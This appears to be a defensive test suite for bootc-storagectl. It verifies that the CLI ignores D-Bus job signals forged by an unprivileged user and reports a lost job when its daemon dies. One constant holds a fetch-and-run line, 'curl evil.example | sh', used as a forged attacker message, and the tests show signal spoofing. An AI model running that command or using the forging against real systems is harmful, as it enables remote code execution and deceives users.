// bootc-storagectl believes only the owner of org.bootc.Storage. A match rule's sender= filters broadcasts
// only: a signal addressed to the CLI's unique name reaches it from any connection. Here a second connection,
// as uid 65534 (nobody), sends the CLI unicast PropertiesChanged on its job's path (a forged `done` with
// Result true, a forged `failed` with an attacker's message, after a forged NameOwnerChanged that names the
// forger the owner), and forged JobNew/JobRemoved/PropertiesChanged to `jobs --watch`. The CLI must follow
// the real job to its real end. And when the owner goes away while a job is followed, the job is lost: the CLI
// fails with a message that says so, it does not wait forever or claim success.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CliProcess, copyCliBundle, spawnCli } from '../helpers/cli-process.js';
import { callStorage } from '../helpers/daemon.js';
import {
  buildSignalForger,
  type SignalForger,
  startSignalForger,
  uniqueNameOfPid,
} from '../helpers/forger-process.js';
import { v } from '../helpers/signal-forger.js';
import { type Stack, startStack } from '../helpers/stack.js';
import { waitFor } from '../helpers/wait-for.js';

const JOB_IFACE = 'org.bootc.Storage.Job';
const PROPS_IFACE = 'org.freedesktop.DBus.Properties';
const ATTACKER_TEXT = 'ATTACKER-SAYS: run curl evil.example | sh';
/** ~2 MB of random data: one layer podman cannot compress. */
const IMAGE_BYTES = 2 * 1024 * 1024;
/** Slow enough that a pull stays running while the forger talks (2 MB at 64 KiB/s: ~30 s). */
const CRAWL_RATE = 64 * 1024;
const FAST_RATE = 1024 * 1024 * 1024;

let s: Stack;
let cliCopy: string;
let forgerBundle: string;
let forger: SignalForger;
const images: string[] = [];

function startCli(args: string[]): CliProcess {
  return spawnCli(cliCopy, args, { busAddress: s.bus.address });
}

type JobRow = [number, string, string, string, string];

async function runningJobFor(target: string): Promise<{ id: number; path: string }> {
  let seen: JobRow[] = [];
  const job = await waitFor<{ id: number; path: string } | false>(
    async () => {
      [seen] = (await callStorage(s.client, 'ListJobs')) as [JobRow[]];
      const row = seen.find(([, kind, t, state]) => kind === 'pull' && t === target && state === 'running');
      return row ? { id: row[0], path: row[4] } : false;
    },
    `a running pull of ${target}`,
    30_000,
  ).catch((err: Error) => {
    throw new Error(`${err.message}; jobs: ${JSON.stringify(seen)}`);
  });
  if (!job) throw new Error(`no running pull of ${target}`);
  return job;
}

/** Lets every job run to its end at full speed, so the next test's pull is not queued behind this one's. */
async function finishJobs(): Promise<void> {
  s.proxy.setRate(FAST_RATE);
  await waitFor(
    async () => {
      const [jobs] = (await callStorage(s.client, 'ListJobs')) as [JobRow[]];
      return jobs.every(([, , , state]) => ['done', 'failed', 'canceled'].includes(state));
    },
    'the queue to empty',
    30_000,
  );
}

function forgedProps(dest: string, path: string, props: Record<string, unknown>) {
  return {
    dest,
    path,
    iface: PROPS_IFACE,
    member: 'PropertiesChanged',
    signature: 'sa{sv}as',
    body: [JOB_IFACE, props, []],
  };
}

/** The unique name that owns org.bootc.Storage now. */
async function daemonName(): Promise<string> {
  const [owner] = (await callStorage(s.client, 'GetNameOwner', 's', ['org.bootc.Storage'], {
    destination: 'org.freedesktop.DBus',
    path: '/org/freedesktop/DBus',
    iface: 'org.freedesktop.DBus',
  })) as [string];
  return owner;
}

/** Lets the CLI see whatever the forger sent, then checks it is still following the job. */
async function expectStillFollowing(cli: CliProcess): Promise<void> {
  await new Promise((r) => setTimeout(r, 1_000));
  expect(cli.exited(), `the CLI ended early: ${cli.stdout()} ${cli.stderr()}`).toBe(false);
}

beforeAll(async () => {
  s = await startStack();
  // A copy in the stack's directory, as cli.test.ts runs it; the forger is bundled there too, for nobody.
  cliCopy = copyCliBundle(s.dir);
  forgerBundle = await buildSignalForger(s.dir);
  const names = ['forged/done:v1', 'forged/failed:v1', 'forged/lost:v1', 'forged/watch:v1'];
  await Promise.all(
    names.map((n) => s.builder.buildAndPush(`${s.registry.host}/${n}`, { bytes: IMAGE_BYTES })),
  );
  images.push(...names.map((n) => `${s.proxy.host}/${n}`));
  forger = await startSignalForger(forgerBundle, s.bus.address);
});
afterAll(async () => {
  forger?.stop();
  await s?.stop();
});

describe('signals sent to the CLI by another user', () => {
  it('a forged `done` with Result true (and a forged owner) does not end a running pull', async () => {
    const image = images[0]!;
    s.proxy.setRate(CRAWL_RATE);
    const cli = startCli(['pull', image]);
    try {
      const cliName = await uniqueNameOfPid(s.client, cli.proc.pid!);
      const job = await runningJobFor(image);
      // As the reproduction did: a unicast PropertiesChanged claiming the job is done and fetched.
      await forger.send(
        forgedProps(cliName, job.path, { State: v('s', 'done'), Result: v('v', v('b', true)) }),
      );
      await expectStillFollowing(cli);
      // The forger claims, from its own connection, that org.bootc.Storage now belongs to it, then repeats.
      await forger.send({
        dest: cliName,
        path: '/org/freedesktop/DBus',
        iface: 'org.freedesktop.DBus',
        member: 'NameOwnerChanged',
        signature: 'sss',
        body: ['org.bootc.Storage', await daemonName(), forger.name],
      });
      await forger.send(
        forgedProps(cliName, job.path, { State: v('s', 'done'), Result: v('v', v('b', true)) }),
      );
      await forger.send({
        dest: cliName,
        path: '/org/bootc/Storage',
        iface: 'org.bootc.Storage',
        member: 'JobRemoved',
        signature: 'uos',
        body: [job.id, job.path, 'done'],
      });
      await expectStillFollowing(cli);
      expect(cli.stdout()).not.toContain('Fetched');
    } finally {
      await finishJobs();
    }
    const run = await cli.done;
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toBe(`Fetched ${image}\n`);
    // The real pull ran to its end: the image is in the store.
    expect((await callStorage(s.client, 'Exists', 's', [image]))[0]).toBe(true);
  });

  it("a forged `failed` with an attacker's message is neither believed nor printed", async () => {
    const image = images[1]!;
    s.proxy.setRate(CRAWL_RATE);
    const cli = startCli(['pull', image]);
    try {
      const cliName = await uniqueNameOfPid(s.client, cli.proc.pid!);
      const job = await runningJobFor(image);
      await forger.send(
        forgedProps(cliName, job.path, {
          State: v('s', 'failed'),
          ErrorName: v('s', 'org.bootc.Storage.Error.PullFailed'),
          ErrorMessage: v('s', ATTACKER_TEXT),
        }),
      );
      await expectStillFollowing(cli);
      expect(cli.stderr()).not.toContain('ATTACKER');
    } finally {
      await finishJobs();
    }
    const run = await cli.done;
    expect(run.stderr).not.toContain('ATTACKER');
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toBe(`Fetched ${image}\n`);
  });

  it('`jobs --watch` shows no forged job, state or removal', async () => {
    const image = images[3]!;
    s.proxy.setRate(CRAWL_RATE);
    const puller = startCli(['pull', image]);
    const watch = startCli(['jobs', '--watch', '--json']);
    try {
      const job = await runningJobFor(image);
      await waitFor(() => watch.stdout().includes(`"target":"${image}"`), 'jobs --watch to show the pull');
      const watchName = await uniqueNameOfPid(s.client, watch.proc.pid!);
      const fake = '/org/bootc/Storage/job/4242';
      const forged = [
        forgedProps(watchName, job.path, { State: v('s', 'forged-state'), Progress: v('d', 0.99) }),
        {
          dest: watchName,
          path: '/org/bootc/Storage',
          iface: 'org.bootc.Storage',
          member: 'JobNew',
          signature: 'uo',
          body: [4242, fake],
        },
        forgedProps(watchName, fake, { State: v('s', 'running') }),
        {
          dest: watchName,
          path: '/org/bootc/Storage',
          iface: 'org.bootc.Storage',
          member: 'JobRemoved',
          signature: 'uos',
          body: [job.id, job.path, 'done'],
        },
      ];
      for (const signal of forged) {
        await forger.send(signal);
        // Longer than a redraw (250 ms), so anything believed would have been printed.
        await new Promise((r) => setTimeout(r, 600));
      }
      const lines = watch
        .stdout()
        .split('\n')
        .filter((l) => l !== '');
      expect(watch.stdout()).not.toContain('forged-state');
      expect(watch.stdout()).not.toContain('"id":4242');
      const last = JSON.parse(lines.at(-1)!) as { id: number; state: string }[];
      expect(last.find((j) => j.id === job.id)?.state).toBe('running');
    } finally {
      watch.proc.kill('SIGINT');
      await finishJobs();
    }
    const watched = await watch.done;
    expect(watched.code, watched.stderr).toBe(0);
    const pulled = await puller.done;
    expect(pulled.code, pulled.stderr).toBe(0);
  });
});

describe('the owner of org.bootc.Storage goes away while a job is followed', () => {
  it('the job is lost: the CLI fails saying so, promptly', async () => {
    const image = images[2]!;
    s.proxy.setRate(CRAWL_RATE);
    const cli = startCli(['pull', image]);
    try {
      await runningJobFor(image);
      await s.daemon.stop('SIGKILL');
      await waitFor(() => cli.exited(), 'the CLI to give up on the lost job', 10_000);
      const run = await cli.done;
      expect(run.code).toBe(1);
      expect(run.stdout).toBe('');
      // The progress lines (stderr is not a terminal), then the one error line.
      const last = run.stderr
        .split('\n')
        .filter((l) => l !== '')
        .at(-1);
      expect(last, run.stderr).toMatch(
        new RegExp(
          `^bootc-storagectl: cannot pull ${image.replace(/\./g, '\\.')}: job \\d+ was lost: bootc-storaged \\(:[0-9.]+\\) left the bus while it ran; how it ended is unknown$`,
        ),
      );
    } finally {
      if (!cli.exited()) cli.proc.kill('SIGKILL');
      s.proxy.setRate(FAST_RATE);
      await s.restartDaemon();
    }
  });
});
